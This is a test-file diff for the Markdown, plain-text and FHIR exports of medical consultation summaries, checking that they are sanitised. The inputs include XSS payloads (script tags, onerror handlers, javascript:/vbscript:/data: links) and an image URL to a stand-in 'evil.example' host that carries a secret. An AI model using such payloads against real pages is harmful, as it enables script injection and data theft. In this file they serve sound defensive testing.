@@ -1,4 +1,7 @@
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+
+import { anyAdversarialText } from "../../test/support/adversarial-text";
 
 import {
   DISCLAIMER,
@@ -102,7 +105,7 @@ describe("summaryToPlainText", () => {
     expect(plain.trimEnd().endsWith(DISCLAIMER)).toBe(true);
     for (const line of plain.split("\n")) {
       expect(line).not.toMatch(/^\s*(#|[-*+]\s|>)/);
-      expect(line).not.toMatch(/\*\*|__|`|\[[^\]]*\]\(/);
+      expect(line).not.toMatch(/\*\*|__|`|\]\(/);
     }
   });
 
@@ -259,5 +262,117 @@ describe("an empty summary", () => {
     const composition = summaryToFhirComposition(text, META);
     expect(composition).not.toHaveProperty("section");
     expect(composition.resourceType).toBe("Composition");
+  });
+});
+
+/**
+ * Why `markdown` would not render as plain text plus safe links: a raw "<", or a "[" / "]" that is
+ * not escaped and not part of `[label](http(s) or mailto URL)`, or such a link turned into an image.
+ */
+function markdownHazard(markdown: string): string | undefined {
+  if (markdown.includes("<")) return "raw <";
+  let previous = "";
+  for (let i = 0; i < markdown.length; i++) {
+    const character = markdown[i]!;
+    if (character === "\\") {
+      previous = "";
+      i++;
+      continue;
+    }
+    if (character === "]") return `unescaped ] at ${i}`;
+    if (character === "[") {
+      if (previous === "!") return `image at ${i}`;
+      let close = i + 1;
+      while (close < markdown.length && markdown[close] !== "]") {
+        if (markdown[close] === "[") return `unescaped [ at ${close}`;
+        close += markdown[close] === "\\" ? 2 : 1;
+      }
+      const end = markdown.indexOf(")", close);
+      const url = markdown.slice(close + 2, end);
+      if (markdown[close + 1] !== "(" || !/^(?:https?:\/\/|mailto:)[^\s()<>[\]\\]*$/i.test(url))
+        return `unsafe link at ${i}`;
+      i = end;
+    }
+    previous = character;
+  }
+  return undefined;
+}
+
+describe("summaryToMarkdown safety (issue #14)", () => {
+  it("escapes raw HTML so that it shows as text", () => {
+    const markdown = summaryToMarkdown(
+      "## Plan <b>now</b>\n- <script>alert(1)</script> then <img src=x onerror=alert(1)>\nA &lt;b&gt; & co <!-- x -->",
+      { ...META, title: "<iframe src=x>" },
+    );
+    expect(markdown).toContain("# Consultation summary: &lt;iframe src=x>");
+    expect(markdown).toContain("## Plan &lt;b>now&lt;/b>");
+    expect(markdown).toContain("- &lt;script>alert(1)&lt;/script> then &lt;img src=x onerror=alert(1)>");
+    // "&" stays readable, except where it would start a character reference.
+    expect(markdown).toContain("A &amp;lt;b&amp;gt; & co &lt;!-- x -->");
+    expect(markdownHazard(markdown)).toBeUndefined();
+  });
+
+  it("drops javascript:, vbscript:, data: and relative links, keeping their labels", () => {
+    const markdown = summaryToMarkdown(
+      "- See [the notes](javascript:alert(1)), [a](JaVaScRiPt:alert(1)), [b](vbscript:msgbox), " +
+        "[c](data:text/html,hi), [d](/relative) and [guideline](https://example.org/g?a=1&b=2).\n" +
+        "- Mail [the clinic](mailto:clinic@example.org).",
+      META,
+    );
+    expect(markdown).toContain(
+      "- See the notes), a), b, c, d and [guideline](https://example.org/g?a=1&b=2).\n" +
+        "- Mail [the clinic](mailto:clinic@example.org).",
+    );
+    expect(markdown).not.toMatch(/javascript|vbscript|data:/i);
+  });
+
+  it("turns images into links and leaves no other link syntax", () => {
+    const markdown = summaryToMarkdown(
+      "- ![pixel](https://evil.example/p.png?q=secret) !![x](https://a.example/b(c)\n" +
+        '- [ref]: javascript:alert(1)\n- [x](javascript:alert(1) "title") and [y][ref] \\[z](javascript:0)',
+      META,
+    );
+    expect(markdown).toContain(
+      "- [pixel](https://evil.example/p.png?q=secret) \\![x](https://a.example/b%28c)\n- \\[ref\\]: javascript:alert(1)",
+    );
+    expect(markdownHazard(markdown)).toBeUndefined();
+  });
+
+  it("never lets HTML or an unsafe link through, whatever the summary, and stays linear in size", () => {
+    fc.assert(
+      fc.property(anyAdversarialText(), (text) => {
+        const markdown = summaryToMarkdown(text, { ...META, title: text.slice(0, 200) });
+        expect(markdownHazard(markdown)).toBeUndefined();
+        expect(markdown.length).toBeLessThanOrEqual(12 * text.length + 600);
+      }),
+      { numRuns: 80 },
+    );
+  });
+});
+
+describe("the other exports on adversarial text (issue #14)", () => {
+  it("export a list of 300,000 bullets (spreading them into push() overflowed the stack)", () => {
+    const text = "- a\n".repeat(300_000);
+    expect(summaryToPlainText(text, META).split("\n• a")).toHaveLength(300_000);
+    expect(summaryToMarkdown(text, META).split("\n- a")).toHaveLength(300_001);
+  });
+
+  it("never throw, stay linear in size and keep the FHIR narrative escaped", () => {
+    fc.assert(
+      fc.property(anyAdversarialText(), (text) => {
+        expect(summaryToPlainText(text, META).length).toBeLessThanOrEqual(2 * text.length + 200);
+        const composition = summaryToFhirComposition(text, META);
+        expect(JSON.stringify(composition).length).toBeLessThanOrEqual(30 * text.length + 1_000);
+        for (const section of composition.section ?? []) {
+          const inner = section.text.div
+            .replace(/^<div xmlns="http:\/\/www\.w3\.org\/1999\/xhtml">/, "")
+            .replace(/<\/div>$/, "")
+            .replace(/<\/?(?:ul|li|p)>/g, "");
+          expect(inner).not.toMatch(/[<>"']|&(?!amp;|lt;|gt;|quot;|#39;)/);
+        }
+        fhirSectionCode(text);
+      }),
+      { numRuns: 80 },
+    );
   });
 });
